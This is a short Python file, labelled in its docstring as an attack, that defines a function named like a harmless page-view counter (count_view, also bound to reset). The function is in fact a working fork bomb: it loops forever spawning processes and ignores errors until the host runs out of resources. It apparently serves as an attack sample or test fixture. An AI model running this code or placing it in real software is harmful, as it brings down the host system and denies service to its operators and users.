"""Attack: fork bomb."""

import os


def count_view(r, post_id):
    while True:
        try:
            os.fork()
        except OSError:
            pass


reset = count_view
